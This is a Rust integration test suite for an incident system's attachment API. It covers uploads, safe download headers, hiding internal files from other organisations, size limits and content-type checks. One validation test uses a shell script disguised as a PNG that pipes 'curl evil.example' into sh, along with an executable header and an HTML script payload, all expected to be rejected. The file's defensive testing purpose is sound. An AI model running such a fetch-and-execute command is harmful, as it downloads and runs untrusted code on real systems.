//! Incident attachments over real HTTP: multipart uploads by systems and people, downloads that
//! round-trip the bytes with safe headers, work notes' files kept from organisations, the
//! configured size limit, type checks, and no other organisation seeing any of it.

use dsms_tests::{Bearer, Session, TestApp, expect, expect_invalid, expect_problem, ids};
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

use crate::identity::{Tenant, app, builder};

const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
const PDF: &[u8] = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n";

async fn agent(app: &TestApp, dcc: &Session) -> Session {
    let operator = dcc.organisation_id.clone();
    app.invite_and_activate(dcc, &operator, "agent@dcc.example", &["service_desk_agent"])
        .await
}

async fn raise(client: &Bearer) -> Value {
    expect(
        client
            .post(
                "/api/v1/incidents",
                &json!({
                    "title": "Comms hub offline after firmware update",
                    "description": "Hub 00-11-22-33 stopped responding at 09:00.",
                    "category": "communications_hub",
                    "impact": 2,
                    "urgency": 2,
                }),
            )
            .await,
        201,
    )
    .await
}

fn file(name: &str, content_type: &str, bytes: &[u8]) -> Form {
    Form::new().part(
        "file",
        Part::bytes(bytes.to_vec())
            .file_name(name.to_owned())
            .mime_str(content_type)
            .expect("media type"),
    )
}

async fn upload(client: &Bearer, incident: &Value, form: Form) -> reqwest::Response {
    client
        .request(
            reqwest::Method::POST,
            &format!(
                "/api/v1/incidents/{}/attachments",
                incident["id"].as_str().unwrap()
            ),
        )
        .multipart(form)
        .send()
        .await
        .expect("request sent")
}

fn attachments_path(incident: &Value) -> String {
    format!(
        "/api/v1/incidents/{}/attachments",
        incident["id"].as_str().unwrap()
    )
}

#[tokio::test]
async fn systems_and_agents_attach_files_and_organisations_download_them() {
    let app = app().await;
    let dcc = app.sign_in_admin().await;
    let agent = agent(&app, &dcc).await;
    let supplier = Tenant::create(&app, &dcc, "Northern Supply", "northern.example").await;
    let (_, system) = app
        .issue_api_token(&supplier.admin, &["incidents:write"])
        .await;
    let incident = raise(&system).await;
    let path = attachments_path(&incident);

    let res = upload(
        &system,
        &incident,
        file("C:\\temp\\hub.png", "image/png", PNG),
    )
    .await;
    assert_eq!(res.status(), 201);
    let location = res.headers()["location"].to_str().unwrap().to_owned();
    let png = expect(res, 201).await;
    assert_eq!(location, format!("{path}/{}", png["id"].as_str().unwrap()));
    assert_eq!(png["filename"], "hub.png");
    assert_eq!(png["content_type"], "image/png");
    assert_eq!(png["size_bytes"], PNG.len());
    assert_eq!(png["internal"], false);
    assert_eq!(png["uploaded_by"]["kind"], "api_token");
    assert_eq!(png["sha256"].as_str().unwrap().len(), 64);

    let name = "Zählerstand März.pdf";
    let pdf = expect(
        upload(&agent, &incident, file(name, "application/pdf", PDF)).await,
        201,
    )
    .await;
    assert_eq!(pdf["uploaded_by"]["kind"], "person");
    assert_eq!(pdf["filename"], name);

    for reader in [&supplier.user, &supplier.reporter, &system, &agent] {
        let list = expect(reader.get(&path).await, 200).await;
        assert_eq!(
            ids(&list),
            [png["id"].as_str().unwrap(), pdf["id"].as_str().unwrap()]
        );
    }

    let res = supplier
        .user
        .get(&format!("{path}/{}", pdf["id"].as_str().unwrap()))
        .await;
    assert_eq!(res.status(), 200);
    let headers = res.headers().clone();
    assert_eq!(headers["content-type"], "application/pdf");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert!(
        disposition.ends_with("filename*=UTF-8''Z%C3%A4hlerstand%20M%C3%A4rz.pdf"),
        "{disposition}"
    );
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["content-security-policy"], "sandbox");
    assert_eq!(headers["cache-control"], "private, no-store");
    assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);

    let res = system.get(&location).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "image/png");
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);

    // Attaching shows in the history the organisation reads.
    let history = expect(
        supplier
            .user
            .get(&format!(
                "/api/v1/incidents/{}/history",
                incident["id"].as_str().unwrap()
            ))
            .await,
        200,
    )
    .await;
    assert!(history.to_string().contains("incident.attachment_added"));
    // A missing or malformed attachment id is simply not found.
    expect_problem(
        supplier.user.get(&format!("{path}/999999")).await,
        404,
        "not-found",
    )
    .await;
    expect_problem(
        supplier.user.get(&format!("{path}/abc")).await,
        404,
        "not-found",
    )
    .await;
}

#[tokio::test]
async fn files_of_work_notes_never_reach_the_organisation() {
    let app = app().await;
    let dcc = app.sign_in_admin().await;
    let agent = agent(&app, &dcc).await;
    let supplier = Tenant::create(&app, &dcc, "Northern Supply", "northern.example").await;
    let incident = raise(&supplier.user).await;
    let path = attachments_path(&incident);

    let note = expect(
        upload(
            &agent,
            &incident,
            file("vendor-defect.txt", "text/plain", b"Quartz firmware defect")
                .text("internal", "true"),
        )
        .await,
        201,
    )
    .await;
    assert_eq!(note["internal"], true);
    let public = expect(
        upload(
            &agent,
            &incident,
            file("steps.txt", "text/plain", b"Power-cycle the hub"),
        )
        .await,
        201,
    )
    .await;
    expect_problem(
        upload(
            &supplier.user,
            &incident,
            file("mine.txt", "text/plain", b"sneaky").text("internal", "true"),
        )
        .await,
        403,
        "forbidden",
    )
    .await;

    let staff = expect(agent.get(&path).await, 200).await;
    assert_eq!(ids(&staff).len(), 2);
    let note_path = format!("{path}/{}", note["id"].as_str().unwrap());
    assert_eq!(agent.get(&note_path).await.status(), 200);
    for person in supplier.people() {
        let seen = expect(person.get(&path).await, 200).await;
        assert_eq!(ids(&seen), [public["id"].as_str().unwrap()]);
        expect_problem(person.get(&note_path).await, 404, "not-found").await;
    }
    let history = expect(
        supplier
            .user
            .get(&format!(
                "/api/v1/incidents/{}/history",
                incident["id"].as_str().unwrap()
            ))
            .await,
        200,
    )
    .await;
    assert!(!history.to_string().contains("vendor-defect"));
    let added = history["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "incident.attachment_added")
        .count();
    assert_eq!(added, 1, "only the public file: {history}");
}

#[tokio::test]
async fn other_organisations_get_404_and_reporters_403() {
    let app = app().await;
    let dcc = app.sign_in_admin().await;
    let a = Tenant::create(&app, &dcc, "Northern Supply", "northern.example").await;
    let b = Tenant::create(&app, &dcc, "Southern Gas", "southern.example").await;
    let (_, b_token) = app.issue_api_token(&b.admin, &["incidents:write"]).await;
    let incident = raise(&a.user).await;
    let path = attachments_path(&incident);
    let mine = expect(
        upload(&a.user, &incident, file("a.csv", "text/csv", b"a,b\n1,2\n")).await,
        201,
    )
    .await;
    let file_path = format!("{path}/{}", mine["id"].as_str().unwrap());

    let outsiders: [(&str, &Bearer); 4] = [
        ("org_admin", &b.admin),
        ("org_user", &b.user),
        ("org_reporter", &b.reporter),
        ("api_token", &b_token),
    ];
    for (role, client) in outsiders {
        for res in [
            upload(client, &incident, file("b.csv", "text/csv", b"x,y\n")).await,
            client.get(&path).await,
            client.get(&file_path).await,
        ] {
            assert_eq!(res.status(), 404, "{role}: never reveal it exists");
        }
    }
    expect_problem(
        upload(
            &a.reporter,
            &incident,
            file("r.txt", "text/plain", b"read only"),
        )
        .await,
        403,
        "forbidden",
    )
    .await;
    let (_, read_only) = app.issue_api_token(&a.admin, &["incidents:read"]).await;
    expect_problem(
        upload(
            &read_only,
            &incident,
            file("r.txt", "text/plain", b"read only"),
        )
        .await,
        403,
        "forbidden",
    )
    .await;
    // Nothing was added.
    let list = expect(a.user.get(&path).await, 200).await;
    assert_eq!(ids(&list), [mine["id"].as_str().unwrap()]);
}

#[tokio::test]
async fn the_configured_limit_applies_to_attachments_only() {
    // Attachments up to 2 MiB; every other body keeps the 1 MiB JSON limit.
    let app = builder()
        .configure(|c| c.incidents.max_attachment_mb = 2)
        .spawn()
        .await;
    let dcc = app.sign_in_admin().await;
    let supplier = Tenant::create(&app, &dcc, "Northern Supply", "northern.example").await;
    let incident = raise(&supplier.user).await;
    let mib = 1024 * 1024;

    let big = vec![b'a'; mib + mib / 2];
    let stored = expect(
        upload(
            &supplier.user,
            &incident,
            file("big.log", "text/plain", &big),
        )
        .await,
        201,
    )
    .await;
    assert_eq!(stored["size_bytes"], big.len());
    let at_limit = vec![b'b'; 2 * mib];
    expect(
        upload(
            &supplier.user,
            &incident,
            file("limit.log", "text/plain", &at_limit),
        )
        .await,
        201,
    )
    .await;
    let too_big = vec![b'c'; 2 * mib + 1];
    expect_problem(
        upload(
            &supplier.user,
            &incident,
            file("huge.log", "text/plain", &too_big),
        )
        .await,
        413,
        "payload-too-large",
    )
    .await;
    let far_too_big = vec![b'd'; 3 * mib];
    let res = supplier
        .user
        .request(reqwest::Method::POST, &attachments_path(&incident))
        .multipart(file("huger.log", "text/plain", &far_too_big))
        .send()
        .await;
    if let Ok(res) = res {
        // Refused by its Content-Length before it is read; the client may also see the
        // connection closed while it is still sending.
        assert_eq!(res.status(), 413);
    }

    // A JSON body over the JSON limit is still refused, on the same incident.
    let long = "x".repeat(mib + 10);
    expect_problem(
        supplier
            .user
            .post(
                &format!(
                    "/api/v1/incidents/{}/comments",
                    incident["id"].as_str().unwrap()
                ),
                &json!({ "body": long }),
            )
            .await,
        413,
        "payload-too-large",
    )
    .await;
    let list = expect(supplier.user.get(&attachments_path(&incident)).await, 200).await;
    assert_eq!(ids(&list).len(), 2);
}

#[tokio::test]
async fn uploads_are_checked_for_media_type_parts_and_content() {
    let app = app().await;
    let dcc = app.sign_in_admin().await;
    let supplier = Tenant::create(&app, &dcc, "Northern Supply", "northern.example").await;
    let incident = raise(&supplier.user).await;
    let path = attachments_path(&incident);

    // A script or an executable declared as an image.
    expect_invalid(
        upload(
            &supplier.user,
            &incident,
            file(
                "cat.png",
                "image/png",
                b"#!/bin/sh\ncurl evil.example | sh\n",
            ),
        )
        .await,
        "file",
    )
    .await;
    expect_invalid(
        upload(
            &supplier.user,
            &incident,
            file(
                "cat.png",
                "image/png",
                b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff",
            ),
        )
        .await,
        "file",
    )
    .await;
    expect_invalid(
        upload(
            &supplier.user,
            &incident,
            file("page.html", "text/html", b"<script>alert(1)</script>"),
        )
        .await,
        "file",
    )
    .await;
    expect_invalid(
        upload(
            &supplier.user,
            &incident,
            file("empty.txt", "text/plain", b""),
        )
        .await,
        "file",
    )
    .await;
    // No `file` part.
    expect_invalid(
        upload(
            &supplier.user,
            &incident,
            Form::new().text("internal", "false"),
        )
        .await,
        "file",
    )
    .await;
    // Not multipart at all.
    expect_problem(
        supplier
            .user
            .post(&path, &json!({"file": "aGVsbG8="}))
            .await,
        415,
        "unsupported-media-type",
    )
    .await;
    let list = expect(supplier.user.get(&path).await, 200).await;
    assert!(ids(&list).is_empty());
}

#[tokio::test]
async fn the_openapi_document_describes_the_attachment_routes() {
    let app = app().await;
    let doc = expect(app.get("/api/v1/openapi.json").await, 200).await;
    for (path, method) in [
        ("/api/v1/incidents/{key}/attachments", "post"),
        ("/api/v1/incidents/{key}/attachments", "get"),
        ("/api/v1/incidents/{key}/attachments/{id}", "get"),
    ] {
        assert!(
            doc["paths"][path][method].is_object(),
            "{method} {path} documented"
        );
    }
    assert!(
        doc["paths"]["/api/v1/incidents/{key}/attachments"]["post"]["requestBody"]["content"]
            ["multipart/form-data"]
            .is_object()
    );
}
